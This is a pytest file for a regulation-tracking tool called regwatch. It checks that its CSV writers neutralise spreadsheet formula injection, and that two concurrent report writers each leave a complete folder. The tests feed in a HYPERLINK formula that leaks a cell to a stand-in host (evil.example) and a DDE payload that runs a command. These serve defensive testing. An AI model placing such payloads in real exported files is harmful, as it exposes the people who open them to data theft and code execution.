"""Reports under pressure: CSV cells a spreadsheet would run as formulas, and writers racing on one folder."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from regwatch.domain.models import Change, StatusRow
from regwatch.domain.vocab import ChangeKind, Severity, Status, Substance
from regwatch.pipeline.steps import load_baseline, report, run_pipeline
from regwatch.reports import writer
from regwatch.reports.writer import changes_csv, status_csv
from regwatch.store import Store
from tests.reliability.reliability_helpers import DAY1, DAY2, NEW, tree

REGWATCH = Path(__file__).resolve().parents[2] / "regwatch"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(autouse=True)
def _store_initialised() -> None:
    """The deployment's `regwatch init`: these tests drive commands against a store that exists."""
    Store.open(create=True).engine.dispose()


def regwatch(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "regwatch", *args], capture_output=True, text=True, check=False)


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


# 17. CSV formula injection ------------------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the bill")'


def test_no_csv_regwatch_writes_holds_a_formula(tmp_path: Path) -> None:
    notice = {
        "id": "@SUM(1+1)*cmd|' /C calc'!A0",
        "jurisdiction": "US-LA",
        "source": "openstates",
        "kind": "bill",
        "title": "Provides relative to kratom",
        "text": "it is unlawful for any person to knowingly or intentionally produce, distribute or possess Kratom",
        "url": HYPERLINK,
        "published": "2025-03-10",
        "effective": "2025-08-01",
        "actions": [{"date": "2025-06-04", "description": "Signed by the Governor. Becomes Act No. 41."}],
    }
    file = tmp_path / "n.jsonl"
    file.write_text(json.dumps(notice) + "\n", encoding="utf-8")
    assert regwatch("ingest", str(file)).returncode == 0
    assert regwatch("run", "--no-baseline", "--no-crawl", "--as-of", "2025-01-01").returncode == 0
    assert regwatch("run", "--no-baseline", "--no-crawl", "--as-of", "2025-08-02").returncode == 0
    reports = Path(os.environ["REGWATCH_REPORTS_DIR"])
    written = {
        "status.csv": (reports / "2025-08-02" / "status.csv").read_text(encoding="utf-8"),
        "status --format csv": regwatch("status", "--as-of", "2025-08-02", "--format", "csv").stdout,
        "changes --format csv": regwatch("changes", "--format", "csv").stdout,
    }
    for name, text in written.items():
        found = cells(text)
        assert f"'{HYPERLINK}" in found, name  # the text is kept, behind the quote that makes it text
        assert [c for c in found if c.startswith(FORMULA_STARTS)] == [], name
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells(written["changes --format csv"])


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_every_formula_start_is_neutralised_in_both_csv_writers(start: str) -> None:
    value = f"{start}1+2"
    row = StatusRow(jurisdiction="US-LA", substance=Substance.KRATOM, status=Status.BANNED, evidence=[value])
    change = Change(
        id="c1", run="r", kind=ChangeKind.SOURCE_BROKEN, severity=Severity.HIGH, source=value, summary=value
    )
    for text in (status_csv([row]), changes_csv([change])):
        found = cells(text)
        assert f"'{value}" in found
        assert [c for c in found if c.startswith(FORMULA_STARTS)] == []


def test_every_csv_is_written_through_the_one_neutralising_function() -> None:
    """csv.writer and csv.DictWriter appear once in regwatch: in the function that neutralises every cell."""
    uses = [
        f"{path.relative_to(REGWATCH)}:{number}"
        for path in sorted(REGWATCH.rglob("*.py"))
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if re.search(r"\bcsv\.(writer|DictWriter)\b", line)
    ]
    assert len(uses) == 1 and uses[0].startswith("reports/writer.py:"), uses


# 3. Two writers of the same run at once -------------------------------------------------------------------


def test_two_writers_of_one_run_at_once_each_leave_a_whole_report(
    sqlite_store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The second writer starts while the first is mid-write; neither fails, and each returns a whole folder."""
    root = tmp_path / "reports"
    load_baseline(sqlite_store)
    run_pipeline(sqlite_store, DAY1, reports_dir=root)
    sqlite_store.ingest(NEW)
    run_id = run_pipeline(sqlite_store, DAY2).run.id
    expected = set(tree(report(sqlite_store, run_id, tmp_path / "alone")))

    real_write = writer._write_file  # noqa: SLF001 (slowed, so that the two writers overlap for certain)
    first_is_midway = threading.Event()

    def slow_write(path: Path, content: str | bytes) -> None:
        time.sleep(0.002)
        real_write(path, content)
        if threading.current_thread().name == "first" and len(list(path.parent.iterdir())) > 10:
            first_is_midway.set()

    monkeypatch.setattr(writer, "_write_file", slow_write)
    outcomes: dict[str, object] = {}

    def write(name: str) -> None:
        try:
            folder = report(sqlite_store, run_id, root)
            outcomes[name] = (folder, set(tree(folder)), set(tree(root / "latest")))  # as the caller sees it
        except Exception as exc:  # noqa: BLE001 (the test reports what a writer raised)
            outcomes[name] = exc

    first = threading.Thread(target=write, args=("first",), name="first")
    second = threading.Thread(target=write, args=("second",), name="second")
    first.start()
    assert first_is_midway.wait(30)
    second.start()
    first.join(60)
    second.join(60)

    for name in ("first", "second"):
        assert outcomes[name] == (root / run_id, expected, expected), name
    assert set(tree(root / run_id)) == expected
    assert sorted(p.name for p in root.iterdir()) == [DAY1.isoformat(), DAY2.isoformat(), "latest"]  # no staging
